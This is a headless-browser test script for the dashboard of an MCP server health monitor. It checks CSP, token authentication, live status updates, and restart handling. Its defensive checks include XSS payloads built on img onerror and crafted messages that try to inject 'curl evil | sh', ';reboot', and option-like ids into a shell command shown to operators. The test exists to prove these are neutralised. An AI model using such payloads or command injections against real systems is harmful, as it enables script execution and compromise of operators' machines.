// The dashboard page in headless Chromium (issue 12). Started by tests/browser/run.sh, which runs
// Redis, the MCP peers and mcp-healthd and says where they are in the environment:
//   DASHBOARD_URL   the page, http://127.0.0.1:<port>/
//   TOKEN_FILE      the dashboard's bearer token (read here, never passed on a command line)
//   EVERYTHING_PID  server-everything, stopped in step e
//   REDIS_SERVER, REDIS_ARGS (JSON array), REDIS_PORT, REDIS_PIDFILE, REDIS_LOG
//                   the daemon's redis-server, stopped and started again in step f; the new one's
//                   pid goes to REDIS_PIDFILE so that run.sh stops it
//   OUT_DIR         screenshots: dashboard-table.png, dashboard-panel.png, failure-<step>.png
// It touches the page only through the DOM hooks of the dashboard contract (ids, classes, data-*).
// Prints "ok - ..." per check; the first failure prints "not ok - ...", saves a screenshot and
// ends the run. Exit code 0 only when every step passed and the page had no error.
import puppeteer from 'puppeteer-core';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

function env(name) {
  const v = process.env[name];
  if (!v) {
    console.error(`dashboard.test: ${name} is not set (start the test with tests/browser/run.sh)`);
    process.exit(2);
  }
  return v;
}
const DASHBOARD_URL = env('DASHBOARD_URL');
const TOKEN = fs.readFileSync(env('TOKEN_FILE'), 'utf8').trim();
const EVERYTHING_PID = Number(env('EVERYTHING_PID'));
const REDIS_SERVER = env('REDIS_SERVER');
const REDIS_ARGS = JSON.parse(env('REDIS_ARGS'));
const REDIS_PORT = Number(env('REDIS_PORT'));
const REDIS_PIDFILE = env('REDIS_PIDFILE');
const REDIS_LOG = env('REDIS_LOG');
const OUT_DIR = env('OUT_DIR');
const DAEMON_BIN = env('DAEMON_BIN');
const DAEMON_CONFIG = env('DAEMON_CONFIG');
const DAEMON_PID = Number(env('DAEMON_PID'));
const DAEMON_PIDFILE = env('DAEMON_PIDFILE');
const DAEMON_LOG = env('DAEMON_LOG');

const row = (id) => `#servers tbody tr[data-server-id="${id}"]`;

// ---- what the page reports ----
const pageErrors = [];     // uncaught exceptions: each one fails the run
const cspViolations = [];  // Content-Security-Policy violations: each one fails the run
const consoleErrors = [];  // console errors (e.g. a 401 or 503 answer): printed, not a failure
const jsDialogs = [];      // alert/confirm/prompt: the page must not open any

let browser;
let page;

class StepFailed extends Error {}

function ok(what) { console.log(`ok - ${what}`); }

// Runs one step; on failure prints "not ok", saves failure-<name>.png and stops the run.
async function step(name, fn) {
  try {
    await fn();
  } catch (e) {
    console.log(`not ok - step ${name}: ${e.message}`);
    const shot = path.join(OUT_DIR, `failure-${name}.png`);
    await page?.screenshot({ path: shot }).then(() => console.log(`# screenshot: ${shot}`), () => {});
    throw new StepFailed(name);
  }
}

// A short account of the page for failure messages: the connection, the notice and each row.
async function pageState() {
  try {
    return await page.evaluate(() => {
      const conn = document.querySelector('#conn');
      const rows = [...document.querySelectorAll('#servers tbody tr')].map((tr) => {
        const cell = (c) => tr.querySelector(`.${c}`);
        return `${tr.dataset.serverId}: status=${tr.dataset.status}` +
          ` trigger=${cell('c-trigger')?.textContent.trim()}` +
          ` checked_at=${cell('c-checked')?.getAttribute('data-checked-at')}` +
          ` error=${JSON.stringify(cell('c-error')?.textContent.trim() ?? '')}`;
      });
      return `#conn data-state=${conn?.dataset.state} data-redis=${conn?.dataset.redis};` +
        ` #notice=${JSON.stringify(document.querySelector('#notice')?.textContent.trim() ?? null)};` +
        ` rows: ${rows.join(' | ') || 'none'}`;
    });
  } catch (e) {
    return `(page state unavailable: ${e.message})`;
  }
}

// page.waitForFunction with a timeout and a message that says what was awaited and what was seen.
async function waitFor(what, fn, timeout, ...args) {
  try {
    await page.waitForFunction(fn, { timeout, polling: 50 }, ...args);
  } catch (e) {
    if (e.name !== 'TimeoutError') throw e;
    throw new Error(`timed out after ${timeout} ms waiting for ${what}; page: ${await pageState()}`);
  }
}

const checkedAt = (id) =>
  page.$eval(`${row(id)} .c-checked`, (el) => el.getAttribute('data-checked-at'));

// ---- processes ----
function alive(pid) {
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2)[0] !== 'Z';  // a zombie has exited
  } catch {
    return false;
  }
}

// Sends PING to 127.0.0.1:port; true when "+PONG" comes back.
function redisPing(port) {
  return new Promise((resolve) => {
    const s = net.connect(port, '127.0.0.1');
    let got = '';
    const done = (v) => { s.destroy(); resolve(v); };
    s.setTimeout(500, () => done(false));
    s.on('connect', () => s.write('PING\r\n'));
    s.on('data', (d) => { got += d; if (got.includes('\r\n')) done(got.startsWith('+PONG')); });
    s.on('error', () => done(false));
  });
}

// Runs one Redis command (RESP array of bulk strings) and resolves with the first reply line.
function redisCommand(port, args) {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1');
    let got = '';
    s.setTimeout(2000, () => { s.destroy(); reject(new Error(`redis ${args[0]} timed out`)); });
    s.on('connect', () => s.write(`*${args.length}\r\n` +
      args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')));
    s.on('data', (d) => {
      got += d;
      if (got.includes('\r\n')) { s.destroy(); resolve(got.split('\r\n')[0]); }
    });
    s.on('error', reject);
  });
}

async function until(what, cond, timeout) {
  const end = Date.now() + timeout;
  while (!(await cond())) {
    if (Date.now() > end) throw new Error(`timed out after ${timeout} ms waiting for ${what}`);
    await sleep(50);
  }
}

// run.sh stopping us (Ctrl-C, a ctest timeout): close the browser, then go.
for (const [signal, code] of [['SIGINT', 130], ['SIGTERM', 143]]) {
  process.once(signal, async () => {
    console.log(`# ${signal}: closing the browser`);
    await Promise.race([browser?.close(), sleep(3000)]).catch(() => {});
    process.exit(code);
  });
}

// ---- the steps ----
async function main() {
  browser = await puppeteer.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--headless=new', '--disable-gpu', '--disable-dev-shm-usage'],
    handleSIGINT: false,  // closed below instead, so that Chromium's helpers end with it
    handleSIGTERM: false,
  });
  page = await browser.newPage();
  await page.setViewport({ width: 1400, height: 900 });
  page.setDefaultTimeout(10000);

  page.on('pageerror', (err) => pageErrors.push(err.message ?? String(err)));
  page.on('console', (msg) => {
    if (msg.type() !== 'error') return;
    const text = msg.text();
    if (/Content Security Policy/i.test(text)) cspViolations.push(text);
    else consoleErrors.push(`${text} (${msg.location()?.url ?? 'no url'})`);
  });
  page.on('dialog', (d) => { jsDialogs.push(`${d.type()}: ${d.message()}`); d.dismiss().catch(() => {}); });
  // Violations also as events, with what was blocked and where.
  await page.exposeFunction('__reportCspViolation', (v) => cspViolations.push(v));
  await page.evaluateOnNewDocument(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__reportCspViolation(`${e.violatedDirective} blocked ${e.blockedURI || '(inline)'}` +
        ` at ${e.sourceFile}:${e.lineNumber}`);
    }, true);
  });

  // a. The page loads, shows everything as healthy, and its panel lists its 13 tools.
  await step('a-table', async () => {
    const resp = await page.goto(DASHBOARD_URL, { waitUntil: 'domcontentloaded' });
    if (!resp || resp.status() !== 200) throw new Error(`GET ${DASHBOARD_URL} answered ${resp?.status()}`);
    const csp = resp.headers()['content-security-policy'] ?? '';
    if (!csp.includes("script-src 'self'") || !csp.includes("default-src 'none'")) {
      throw new Error(`the page's Content-Security-Policy is ${JSON.stringify(csp)}`);
    }
    await waitFor('the everything row with data-status="healthy"',
      (sel) => document.querySelector(sel)?.dataset.status === 'healthy', 20000, row('everything'));
    await page.screenshot({ path: path.join(OUT_DIR, 'dashboard-table.png') });
    ok('the page loads with its CSP and shows everything as healthy');

    await page.click(`${row('everything')} .c-id`);
    await waitFor('#panel open for everything with 13 li.tool in #panel-tools', () => {
      const p = document.querySelector('#panel');
      return p && !p.hidden && p.getClientRects().length > 0 && p.dataset.serverId === 'everything' &&
        document.querySelectorAll('#panel-tools li.tool').length === 13;
    }, 10000);
    // The panel slides in: the screenshot waits until it is all inside the window.
    await waitFor('#panel fully inside the window', () => {
      const r = document.querySelector('#panel').getBoundingClientRect();
      return r.right <= window.innerWidth + 0.5 && r.left >= 0;
    }, 5000);
    await page.screenshot({ path: path.join(OUT_DIR, 'dashboard-panel.png') });
    ok('clicking everything opens its panel with its 13 tools');
  });

  // b. Tool metadata full of HTML is shown as text and never run.
  await step('b-xss', async () => {
    await waitFor('the xss row with data-status="healthy"',
      (sel) => document.querySelector(sel)?.dataset.status === 'healthy', 10000, row('xss'));
    await page.click(`${row('xss')} .c-id`);
    await waitFor('#panel open for xss with 2 li.tool in #panel-tools', () => {
      const p = document.querySelector('#panel');
      return p && !p.hidden && p.dataset.serverId === 'xss' &&
        document.querySelectorAll('#panel-tools li.tool').length === 2;
    }, 10000);
    const seen = await page.evaluate(() => {
      const li = [...document.querySelectorAll('#panel-tools li.tool')]
        .find((el) => el.querySelector('.tool-name')?.textContent.trim() === 'xss');
      if (!li) return null;
      const title = li.querySelector('.tool-title');
      return {
        description: li.querySelector('.tool-description')?.textContent,
        title: title?.textContent,
        titleElements: title?.querySelectorAll('*').length,
        images: document.querySelectorAll('#panel img').length,
      };
    });
    if (!seen) throw new Error('no li.tool with .tool-name "xss" in #panel-tools');
    const wanted = '<img src=x onerror="window.pwned=1">';
    if (seen.description !== wanted) {
      throw new Error(`.tool-description of xss is ${JSON.stringify(seen.description)}, not ${JSON.stringify(wanted)}`);
    }
    if (!seen.title?.includes('<b>bold?</b>') || seen.titleElements !== 0) {
      throw new Error(`.tool-title of xss is ${JSON.stringify(seen.title)} with ${seen.titleElements} elements inside`);
    }
    if (seen.images !== 0) throw new Error(`#panel holds ${seen.images} img element(s)`);
    // The server's display name, its serverInfo name and an error message quoting an HTML body
    // are text too.
    await waitFor('the xss-error row with its HTML error message',
      (sel) => document.querySelector(sel)?.textContent.includes('<img src=x onerror="window.pwned=3">'),
      10000, `${row('xss-error')} .c-error`);
    const elsewhere = await page.evaluate((sel) => ({
      name: document.querySelector(sel)?.textContent.trim(),
      panel: document.querySelector('#panel')?.textContent ?? '',
      images: document.querySelectorAll('img').length,
    }), `${row('xss')} .c-name`);
    if (elsewhere.name !== '<img src=x onerror="window.pwned=2">') {
      throw new Error(`.c-name of xss is ${JSON.stringify(elsewhere.name)}`);
    }
    if (!elsewhere.panel.includes('<img src=x onerror="window.pwned=4">')) {
      throw new Error('the panel does not show the serverInfo name as text');
    }
    if (elsewhere.images !== 0) throw new Error(`the page holds ${elsewhere.images} img element(s)`);
    await sleep(1000);  // an onerror handler would have run by now
    const pwned = await page.evaluate(() => typeof window.pwned);
    if (pwned !== 'undefined') throw new Error(`window.pwned is set (${pwned}): the description ran as HTML`);
    ok('HTML in tool metadata, a display name, serverInfo and an error message is shown as text: no img, window.pwned unset');

    await page.click('#panel-close');
    await waitFor('#panel to close', () => {
      const p = document.querySelector('#panel');
      return !p || p.hidden || p.getClientRects().length === 0;
    }, 5000);
    ok('#panel-close closes the panel');
  });

  // c. A recheck without the token, or with a wrong one, is refused with 401.
  await step('c-unauthorized', async () => {
    const post = (auth) => page.evaluate((auth) =>
      fetch('/api/check/everything', { method: 'POST', headers: auth ? { Authorization: auth } : {} })
        .then((r) => [r.status, r.headers.get('www-authenticate')]), auth);
    const [status, challenge] = await post(null);
    if (status !== 401 || !/^Bearer/.test(challenge ?? '')) {
      throw new Error(`POST /api/check/everything without a token: ${status}, WWW-Authenticate ${JSON.stringify(challenge)}`);
    }
    ok('POST /api/check/everything without a token: 401 with WWW-Authenticate: Bearer');
    const flipped = TOKEN.slice(0, -1) + (TOKEN.endsWith('0') ? '1' : '0');
    for (const wrong of [flipped, `${TOKEN}0`, 'x']) {
      const [s] = await post(`Bearer ${wrong}`);
      if (s !== 401) throw new Error(`POST /api/check/everything with a wrong token (${wrong.length} chars): ${s}, not 401`);
    }
    ok('POST /api/check/everything with a wrong token: 401');
  });

  // d. Recheck from the page: it asks for the token, and the command's result shows up.
  await step('d-recheck', async () => {
    const before = await checkedAt('everything');
    // Every result shown in the row, recorded as it happens: a result with trigger "command" is
    // on screen for one interval only (500 ms) before the next scheduled one replaces it.
    await page.evaluate((sel) => {
      window.__seen = [];
      const tr = document.querySelector(sel);
      const record = () => window.__seen.push({
        trigger: tr.querySelector('.c-trigger')?.textContent.trim(),
        at: tr.querySelector('.c-checked')?.getAttribute('data-checked-at'),
      });
      new MutationObserver(record).observe(tr, { subtree: true, childList: true, characterData: true, attributes: true });
    }, row('everything'));
    const commandResults = () => page.evaluate((before) => window.__seen
      .filter((r) => r.trigger === 'command' && Date.parse(r.at) > Date.parse(before)).length, before);
    await page.click(`${row('everything')} button.recheck`);
    await page.waitForSelector('#token-input', { visible: true, timeout: 5000 });
    ok('Recheck without a stored token asks for it');
    await page.type('#token-input', TOKEN);
    await page.click('#token-save');
    await until('a result of the everything row with trigger "command", newer than before',
      async () => (await commandResults()) >= 1, 5000);
    await waitFor('#notice to give the answer: "everything: <status> (command <id>)"',
      () => /^everything: \S+ \(command \S+\)/.test(document.querySelector('#notice')?.textContent.trim() ?? ''),
      5000);
    ok('Recheck with the token shows a result with trigger "command" and the answer in #notice');

    // The token is kept: a second Recheck asks nothing and is answered too.
    await page.click(`${row('everything')} button.recheck`);
    await until('a second result with trigger "command"', async () => (await commandResults()) >= 2, 5000);
    const dialogShown = await page.evaluate(() => {
      const input = document.querySelector('#token-input');
      return !!input && input.getClientRects().length > 0 && getComputedStyle(input).visibility !== 'hidden';
    });
    if (dialogShown) throw new Error('the token was asked for again');
    ok('a second Recheck uses the kept token: no prompt, answered');

    // Recheck all: every server answers, then command_done.
    await page.click('#recheck-all');
    await waitFor('#notice to say "check *: 3 servers done"',
      () => /check \*: 3 servers done/.test(document.querySelector('#notice')?.textContent ?? ''), 10000);
    ok('Recheck all is answered with command_done for the 3 servers');
  });

  // e. A server that stops is shown unhealthy within 2 s, without a reload.
  await step('e-unhealthy', async () => {
    await page.evaluate(() => { window.__sameDocument = true; });
    process.kill(EVERYTHING_PID, 'SIGTERM');
    const t0 = performance.now();
    await waitFor('the everything row with data-status="unhealthy"',
      (sel) => document.querySelector(sel)?.dataset.status === 'unhealthy', 10000, row('everything'));
    const ms = Math.round(performance.now() - t0);
    if (!(await page.evaluate(() => window.__sameDocument === true))) throw new Error('the page reloaded');
    if (ms > 2000) throw new Error(`everything turned unhealthy ${ms} ms after it was stopped (limit 2000 ms)`);
    ok(`server-everything stopped: its row turns unhealthy after ${ms} ms (limit 2000), without a reload`);
  });

  // f. Redis goes away and comes back: the page says so and shows the next result.
  await step('f-redis', async () => {
    const pid = Number(fs.readFileSync(REDIS_PIDFILE, 'utf8').trim());
    process.kill(pid, 'SIGTERM');
    await until('redis-server to exit', async () => !alive(pid) && !(await redisPing(REDIS_PORT)), 10000);
    await waitFor('#conn with data-redis (or data-state) "disconnected"', () => {
      const c = document.querySelector('#conn');
      return c?.dataset.redis === 'disconnected' || c?.dataset.state === 'disconnected';
    }, 10000);
    ok('Redis stopped: #conn says disconnected');

    const before = await checkedAt('xss');
    const log = fs.openSync(REDIS_LOG, 'a');
    const child = spawn(REDIS_SERVER, REDIS_ARGS, { stdio: ['ignore', log, log] });
    let spawnError = null;
    child.on('error', (e) => { spawnError = e; });
    fs.closeSync(log);
    fs.writeFileSync(REDIS_PIDFILE, `${child.pid}\n`);  // run.sh stops it from there
    child.unref();
    await until('the restarted redis-server to answer PING', async () => {
      if (spawnError) throw new Error(`cannot start ${REDIS_SERVER}: ${spawnError.message}`);
      return redisPing(REDIS_PORT);
    }, 5000);
    await waitFor('#conn data-redis="connected" and an xss result newer than before the restart',
      ([sel, before]) => {
        const at = document.querySelector(`${sel} .c-checked`)?.getAttribute('data-checked-at');
        return document.querySelector('#conn')?.dataset.redis === 'connected' &&
          Date.parse(at) > Date.parse(before);
      }, 15000, [row('xss'), before]);
    ok('Redis restarted: #conn says connected and the next xss result is shown');
    // A page that read the (empty) status hash before the daemon refilled it reads it again:
    // servers checked rarely (xss-error fails, so it backs off) are listed without waiting.
    await waitFor('rows for everything, xss and xss-error',
      (sels) => sels.every((sel) => !!document.querySelector(sel)), 5000,
      ['everything', 'xss', 'xss-error'].map(row));
    ok('Redis restarted: every server is listed again, also those not checked since');
  });

  // h. Every status, also one the page does not know yet: a server another daemon (here: this
  // test) publishes as auth_required, one quarantined (tool baselines), and one with a status
  // word added to the protocol later.
  await step('h-statuses', async () => {
    const message = (id, seq, status, why = 'authorization is required') => JSON.stringify({
      v: 1, type: 'health', server_id: id, seq, status, previous_status: 'unknown', changed: true,
      status_since: new Date().toISOString(), checked_at: new Date().toISOString(),
      trigger: 'schedule', latency_ms: { total: 1, connect: 0, initialize: 1, tools_list: 0 },
      protocol_version: null, server_info: null, tool_count: null, tools_hash: null,
      consecutive_failures: 1, consecutive_successes: 0,
      error: { kind: 'auth', message: why, http_status: null },
    });
    // A publish shows within a second (the bound; it takes milliseconds).
    const t0 = performance.now();
    // As the daemon words it (docs/PROTOCOL.md): the message ends with the command that fixes it.
    const stepUp = "mcp-healthctl login login-needed --scope 'mcp:read mcp:write'";
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-needed', 1, 'auth_required',
      "the server answered HTTP 403 insufficient_scope (it wants scope 'mcp:read mcp:write'); run: " + stepUp)]);
    await waitFor('a row for login-needed', (sel) => !!document.querySelector(sel), 5000, row('login-needed'));
    const shownMs = Math.round(performance.now() - t0);
    if (shownMs > 1000) throw new Error(`a published result took ${shownMs} ms to show (limit 1000 ms)`);
    ok(`a published result is shown ${shownMs} ms after the PUBLISH (limit 1000)`);
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('from-the-future', 1, 'hibernating')]);
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('rug-pulled', 1, 'quarantined')]);
    await waitFor('rows for login-needed (auth_required, with its hint), from-the-future (hibernating) and rug-pulled (quarantined)',
      ([a, b, c, want]) => {
        const login = document.querySelector(a);
        const future = document.querySelector(b);
        const pulled = document.querySelector(c);
        return login?.dataset.status === 'auth_required' &&
          login.querySelector('.c-status .login-command')?.textContent === want &&
          future?.dataset.status === 'hibernating' &&
          future.querySelector('.c-status')?.textContent.includes('hibernating') &&
          document.querySelector('[data-count-status="hibernating"]')?.textContent.includes('1') &&
          pulled?.dataset.status === 'quarantined' &&
          !!pulled.querySelector('.status.st-quarantined') &&
          document.querySelector('[data-count-status="quarantined"]')?.textContent.includes('1');
      }, 5000, [row('login-needed'), row('from-the-future'), row('rug-pulled'), stepUp]);
    ok('auth_required shows what to do; quarantined is counted in its colour; an unknown status word gets its row and its count');

    // Anyone who can write to Redis can publish: an operator pastes the command into a shell, so a
    // message cannot put its own words into it. A crafted scope gives the plain command; an id
    // that could not stand in a shell gives no command; a tail naming another server is not used.
    const crafted = "x (it wants scope 'a'); run: mcp-healthctl login login-crafted --scope 'a'; curl evil | sh #'";
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-crafted', 1, 'auth_required', crafted)]);
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('x;reboot', 1, 'auth_required',
      'no refresh token; run: mcp-healthctl login x;reboot')]);
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-other', 1, 'auth_required',
      "no refresh token; run: mcp-healthctl login login-needed --scope 'admin'")]);
    // An id that the command line would take for an option: `login --url --scope 'x'` logs x in.
    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('--url', 1, 'auth_required',
      "no refresh token; run: mcp-healthctl login --url --scope 'login-needed'")]);
    await waitFor('the crafted auth_required messages: plain commands, or none',
      ([a, b, c, d]) => {
        const commandOf = (sel) => document.querySelector(sel)?.querySelector('.c-status .login-command')?.textContent;
        const unsafe = document.querySelector(b);
        return commandOf(a) === 'mcp-healthctl login login-crafted' &&
          unsafe?.dataset.status === 'auth_required' && !unsafe.querySelector('.login-command') &&
          unsafe.querySelector('.c-status .hint')?.textContent.includes('mcp-healthctl login') &&
          commandOf(c) === 'mcp-healthctl login login-other' &&
          document.querySelector(d)?.dataset.status === 'auth_required' &&
          !document.querySelector(d).querySelector('.login-command');
      }, 5000, [row('login-crafted'), row('x;reboot'), row('login-other'), row('--url')]);
    ok('a published message cannot put its words into the login command (crafted scope, unsafe id, an id read as an option, another server)');

    // The panel shows the same command, with a button that copies it.
    await page.click(row('login-needed') + ' .id-link');
    await waitFor('the panel of login-needed with its login command and a copy button',
      (want) => document.querySelector('#panel-hint .login-command')?.textContent === want &&
        !document.querySelector('#panel-hint').hidden && !!document.querySelector('#panel-hint .copy-command'),
      5000, stepUp);
    await page.keyboard.press('Escape');  // (the panel may still be sliding in: no click)
    await waitFor('#panel to close', () => {
      const p = document.querySelector('#panel');
      return !p || p.hidden || p.getClientRects().length === 0;
    }, 5000);
    ok('the panel of an auth_required server shows its login command with a copy button');

    // Filtering by status and by text, then back to every row.
    const visibleRows = () => page.evaluate(() => [...document.querySelectorAll('#servers tbody tr')]
      .filter((tr) => tr.getClientRects().length > 0).map((tr) => tr.dataset.serverId).sort().join(','));
    let shown = '';
    const listed = (want) => until(`only ${want} to be listed`, async () => {
      shown = await visibleRows();
      return shown === want;
    }, 3000).catch((e) => { throw new Error(`${e.message} (listed: ${JSON.stringify(shown)})`); });
    await page.select('#filter-status', 'hibernating');
    await listed('from-the-future');
    await page.select('#filter-status', '');
    await page.type('#filter-text', 'xss');
    await listed('xss,xss-error');
    await page.$eval('#filter-text', (el) => { el.value = ''; el.dispatchEvent(new Event('input', { bubbles: true })); });
    await listed('--url,everything,from-the-future,login-crafted,login-needed,login-other,rug-pulled,x;reboot,xss,xss-error');
    ok('the status and text filters show only the matching rows');
  });

  // i. The daemon restarts: the page says it is disconnected, then comes back by itself and
  // shows the next result.
  await step('i-daemon', async () => {
    process.kill(DAEMON_PID, 'SIGTERM');  // run.sh checks that it exits 0
    await waitFor('#conn data-state="disconnected"',
      () => document.querySelector('#conn')?.dataset.state === 'disconnected', 10000);
    ok('the daemon stopped: #conn says disconnected');
    await until('the first daemon to exit', async () => !alive(DAEMON_PID), 5000);
    const before = await checkedAt('xss');
    const log = fs.openSync(DAEMON_LOG, 'a');
    const child = spawn(DAEMON_BIN, ['--config', DAEMON_CONFIG], { stdio: ['ignore', log, log] });
    fs.closeSync(log);
    fs.writeFileSync(DAEMON_PIDFILE, `${child.pid}\n`);  // run.sh stops it if we cannot
    const exited = new Promise((resolve) => child.on('exit', (code, signal) => resolve({ code, signal })));
    await waitFor('#conn data-state="connected" and an xss result newer than before the restart',
      ([sel, before]) => {
        const at = document.querySelector(`${sel} .c-checked`)?.getAttribute('data-checked-at');
        return document.querySelector('#conn')?.dataset.state === 'connected' &&
          Date.parse(at) > Date.parse(before);
      }, 20000, [row('xss'), before]);
    ok('the daemon restarted: the page reconnected by itself and shows the next result');
    child.kill('SIGTERM');
    const { code, signal } = await exited;
    fs.writeFileSync(DAEMON_PIDFILE, '');
    if (code !== 0) throw new Error(`the restarted daemon exited ${code ?? signal} after SIGTERM`);
    ok('the restarted daemon stops cleanly with the page open (exit 0)');
  });
}

let failed = false;
try {
  await main();
} catch (e) {
  failed = true;
  if (!(e instanceof StepFailed)) console.log(`not ok - ${e.stack ?? e}`);
} finally {
  // g. The page never threw, never broke its CSP and opened no JavaScript dialog.
  for (const m of consoleErrors) console.log(`# console error: ${m}`);
  const problems = [
    ...pageErrors.map((m) => `uncaught error in the page: ${m}`),
    ...cspViolations.map((m) => `CSP violation: ${m}`),
    ...jsDialogs.map((m) => `JavaScript dialog: ${m}`),
  ];
  if (problems.length) {
    failed = true;
    for (const p of problems) console.log(`not ok - ${p}`);
    await page?.screenshot({ path: path.join(OUT_DIR, 'failure-g-errors.png') }).catch(() => {});
  } else if (page) {
    ok('no uncaught error, CSP violation or JavaScript dialog in the page');
  }
  await browser?.close().catch(() => {});
}
process.exit(failed ? 1 : 0);
